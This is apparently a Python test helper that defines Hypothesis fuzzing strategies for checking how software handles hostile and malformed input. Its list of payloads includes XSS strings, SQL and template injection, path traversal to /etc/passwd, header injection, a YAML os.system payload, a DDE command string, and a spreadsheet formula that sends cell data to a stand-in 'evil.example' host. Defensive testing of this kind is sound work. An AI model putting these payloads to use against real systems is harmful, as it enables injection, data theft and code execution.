"""Words and values that were never meant: what people paste, what attackers try, what JSON allows."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

MARK = "<xss7"
"""How a tag begins that nobody but an attacker writes. No page may hold it as it is."""

NASTY = [
    MARK + ">alert(1)</xss7>",
    "<script>" + MARK + "</script>",
    '"><img src=x onerror=alert(1)>' + MARK,
    "'" + MARK + " onmouseover=alert(1) x='",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) [me](data:text/html;base64,PHNjcmlwdD4=)",
    "<!-- " + MARK + " --!> ]]> <![CDATA[ x",
    "</script></textarea></title></style>" + MARK,
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068turned\u2069",
    "\u200f\u200e\u061c",
    "\u200b\u200d\ufeff",
    "\x00\x01\x1b[31m\x7f",
    "\ud800",
    "\udfff and a half",
    "\U0010ffff\ue000",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e" * 8,
    "\U0001f469\U0001f3fd\u200d\U0001f33e" * 20,
    "x" * 281,
    "w" * 5_000,
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7 %>",
    "%s%n%(x)s {0} {name} {self.__class__} {{}}",
    "../../../../etc/passwd",
    'a.html"; filename="b.exe',
    "one\r\nSet-Cookie: owned=1\r\n\r\n<html>",
    "' OR 1=1 --",
    '" OR ""="',
    '\\input{/etc/passwd} #eval(read("/etc/passwd")) $x^2$ #link("javascript:x")',
    "!!python/object/apply:os.system ['id']",
    "http://127.0.0.1:1/\\@evil.example",
    "//evil.example/",
    "ﷺ" * 40,
    "NaN",
    "1e999",
    "-0",
    "null",
    "true",
    "0x10",
    "٣",
    " ",
    "",
]

words = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="ascii"), max_size=300),
    st.sampled_from(NASTY).flatmap(lambda nasty: st.text(max_size=6).map(lambda text: text + nasty + text)),
)

numbers = st.one_of(
    st.integers(-2, 120),
    st.sampled_from([-1, 0, 2**31 - 1, 2**31, 2**53, 2**63 - 1, 2**63, 2**64, 10**30, -(2**63) - 1]),
)


def nested(depth: int) -> Any:
    """A list in a list in a list."""
    found: Any = []
    for _ in range(depth):
        found = [found]
    return found


anything = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        numbers,
        st.sampled_from([1.5, -0.0, 1e308, float("nan"), float("inf")]),
        words,
        st.sampled_from([nested(50), {"a": nested(20)}]),
    ),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(words, inner, max_size=4),
    max_leaves=8,
)


@st.composite
def mutated(draw: st.DrawFn, originals: st.SearchStrategy[bytes]) -> bytes:
    """Something that was meant, with a few bytes cut out, doubled, changed or put in."""
    data = bytearray(draw(originals))
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, max(0, len(data) - 1)))
        size = draw(st.sampled_from([1, 1, 2, 8, 64]))
        match draw(st.integers(0, 4)):
            case 0:
                del data[at : at + size]
            case 1:
                data[at:at] = data[at : at + size] * draw(st.sampled_from([1, 2, 50]))
            case 2:
                data[at : at + 1] = draw(st.binary(min_size=1, max_size=1))
            case 3:
                data[at:at] = draw(st.binary(max_size=size))
            case _:
                del data[at:]
    return bytes(data)
